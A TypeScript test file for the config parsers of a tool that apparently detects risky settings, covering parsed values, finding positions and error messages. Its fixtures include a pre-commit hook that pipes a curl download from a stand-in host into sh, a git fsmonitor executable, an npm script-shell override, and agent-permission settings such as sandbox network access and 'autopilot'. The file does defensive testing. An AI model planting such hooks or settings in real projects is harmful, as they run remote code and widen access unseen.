/** Parsers: the common tree, its places, and what they say of broken input. */
import * as jsonc from 'jsonc-parser';
import { describe, expect, test } from 'vitest';
import { assessConfig } from '../../../../server/detect/settings/index.ts';
import { canonical, positionsOf } from '../../../../server/detect/settings/document.ts';
import { parseConfig, type Format } from '../../../../server/detect/settings/parse/index.ts';

const tree = (format: Format, text: string): unknown => {
  const { root } = parseConfig(text, format, 'test').document;
  return root === undefined ? undefined : JSON.parse(canonical(root));
};

describe('values', () => {
  test.each<readonly [Format, string, unknown]>([
    ['jsonc', '{"b":[1,-2.5e1,true,null,"x\\n"],"a":{},}', { a: {}, b: [1, -25, true, null, 'x\n'] }],
    ['jsonc', '// only a comment', undefined],
    ['jsonc', '', undefined],
    ['jsonc', '"text"', 'text'],
    ['toml', 'a.b = 1\n[[t]]\nx = "y"\nd = 2026-01-01\n', { a: { b: 1 }, t: [{ x: 'y', d: '2026-01-01' }] }],
    ['yaml', 'a: &x [1, off]\nb: *x\nc:\n  d: null\n', { a: [1, 'off'], b: [1, 'off'], c: { d: null } }],
    [
      'ini',
      '[Core]\n\tFsMonitor = "a b" ; c\n[remote "O"]url=x\\\ny\nflag\n',
      { core: { fsmonitor: 'a b' }, remote: { O: { url: 'xy', flag: true } } },
    ],
    ['ini', '[branch.main]\nmerge = a\n', { branch: { main: { merge: 'a' } } }],
    [
      'properties',
      '# c\nA=1\nexport B="x y"\n//h/:_authToken=t\nc d\n!x\nurl=https\\://a\n',
      { A: '1', B: 'x y', '//h/:_authToken': 't', c: 'd', url: 'https://a' },
    ],
    ['script', '#!/bin/sh\n\n# c\na \\\n  b\nc\n', ['a   b', 'c']],
  ])('%s %j', (format, text, expected) => {
    expect(tree(format, text)).toEqual(expected);
  });
});

describe('places', () => {
  test.each([
    ['.codex/config.toml', 'model = "m"\r\n\r\n[sandbox_workspace_write]\r\nnetwork_access = true\r\n', 4, 1],
    ['.github/workflows/a.yml', 'on: push\npermissions: write-all\n', 2, 1],
    ['.git/config', '[core]\n\tbare = false\n\tfsmonitor = ./x\n', 3, 2],
    ['.npmrc', 'a=b\nscript-shell=./x\n', 2, 1],
    ['.husky/pre-commit', '#!/bin/sh\ncurl https://x.example | sh\n', 2, 1],
    ['.vscode/settings.json', '\uFEFF{\r"chat.permissions.default":"autopilot"}', 2, 1],
  ])('in %s', (path, text, line, column) => {
    const [first] = assessConfig({ path }, undefined, text)?.introduced ?? [];
    expect(first?.start).toEqual({ line, column });
    expect(first?.end.line).toBe(line);
  });

  test('of offsets at the rims', () => {
    const position = positionsOf('a\r\nb\rc\n');
    expect([0, 1, 3, 5, 7].map(position)).toEqual([
      { line: 1, column: 1 },
      { line: 1, column: 2 },
      { line: 2, column: 1 },
      { line: 3, column: 1 },
      { line: 4, column: 1 },
    ]);
  });
});

test.each([
  ['{ "a" }', 'no value'],
  ['{ "a": 1', 'ends inside'],
  ['{ , }', 'comma stands'],
  ['{ : 1 }', 'colon stands'],
  ['{ 1 }', 'no key'],
  ['{ "a": "x\n" }', 'not well formed'],
  ['}', 'no opening'],
  ['{ "a": [ } }', 'other kind'],
  ['[ } ]', 'no opening'],
  ['[1 2]', 'comma is missing'],
  ['[] []', 'More than one value'],
  ['{ "a": yes }', 'not valid JSON'],
])('%j has a problem with a place: %s', (text, message) => {
  const { problems, broken } = parseConfig(text, 'jsonc', 'x.json').document;
  expect(broken).toBe(true);
  const found = problems.find(problem => problem.message.includes(message));
  expect(found).toMatchObject({ source: 'x.json', line: expect.any(Number) as number });
});

test('the scanner numbers its tokens as we think', () => {
  const scanner = jsonc.createScanner('{}[],:null true false "s" 1 x', true);
  const kinds: readonly number[] = Array.from({ length: 13 }, () => scanner.scan());
  expect(kinds).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 16, 17]);
});
